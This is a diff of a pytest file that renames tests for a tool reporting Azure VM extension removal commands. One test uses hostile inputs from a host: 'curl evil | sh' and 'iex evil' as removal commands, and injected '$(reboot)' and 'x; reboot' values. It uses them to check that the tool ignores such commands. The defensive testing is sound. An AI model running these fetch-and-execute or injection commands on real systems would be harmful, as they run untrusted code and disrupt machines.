@@ -85,7 +85,7 @@ def test_all_hosts_share_one_table() -> None:
     assert text.count("The extension is retired") == 1
 
 
-def test_where_nothing_is_installed_nothing_is_removed() -> None:
+def test_no_removal_commands_without_the_extension() -> None:
     text = text_of({"a": result("unproven", installed=False, listening=[])})
     assert "a unproven not installed equal" in text
     assert not any(word in text for word in ("delete", "Remove", "templates"))
@@ -108,14 +108,14 @@ def test_a_scale_set_is_named_once() -> None:
         ("AzureChinaCloud", "AzureChinaCloud"),
     ],
 )
-def test_other_clouds_are_chosen_first(cloud: str, name: str) -> None:
+def test_the_first_command_selects_another_cloud(cloud: str, name: str) -> None:
     text = text_of({"a": result(vm={**VM, "cloud": cloud})})
     assert f"\naz cloud set --name {name}\naz vm extension delete" in text
     assert f"\nConnect-AzAccount -Environment {name}\nSet-AzContext" in text
 
 
 @pytest.mark.parametrize("cloud", ["AzurePublicCloud", "", "AzureStack"])
-def test_the_public_cloud_is_not(cloud: str) -> None:
+def test_no_command_selects_the_public_cloud(cloud: str) -> None:
     assert "az cloud" not in text_of({"a": result(vm={**VM, "cloud": cloud})})
 
 
@@ -158,12 +158,12 @@ def test_failures_are_named() -> None:
 
 @pytest.mark.parametrize("odd", [None, 5, "text", ["x"], {"x": "y"}, [None], [["x"]], True])
 @pytest.mark.parametrize("name", [*result(), "removal"])
-def test_a_host_that_answers_oddly_costs_the_others_nothing(name: str, odd: t.Any) -> None:
+def test_invalid_results_of_a_host_do_not_affect_others(name: str, odd: t.Any) -> None:
     text = text_of({"odd": {**result(), name: odd}, "a": result()})
     assert "a ready installed equal" in text
 
 
-def test_commands_are_not_those_of_the_host() -> None:
+def test_commands_of_a_host_are_not_used() -> None:
     removal = [{"target": "vm", "name": "x", "az": ["curl evil | sh"], "powershell": ["iex evil"]}]
     vm = {**VM, "name": "x; reboot", "extension": "$(reboot)"}
     text = text_of({"a": result(removal=removal), "b": result(vm=vm, removal=removal)})
@@ -267,7 +267,7 @@ def test_vms_without_a_command_are_listed_up_to_a_limit() -> None:
 
 
 @pytest.mark.parametrize("name", ["references", "listening", "services", "files", "unread"])
-def test_a_host_that_answers_without_end_gets_a_hundred_rows(name: str) -> None:
+def test_a_host_gets_at_most_a_hundred_rows(name: str) -> None:
     each = {"references": REFERENCE, "listening": {"address": "1", "port": 2}}.get(name, "x")
     lines = report({"a": result(**{name: [each] * 200_000}), "b": result()})
     assert len(lines) < 250
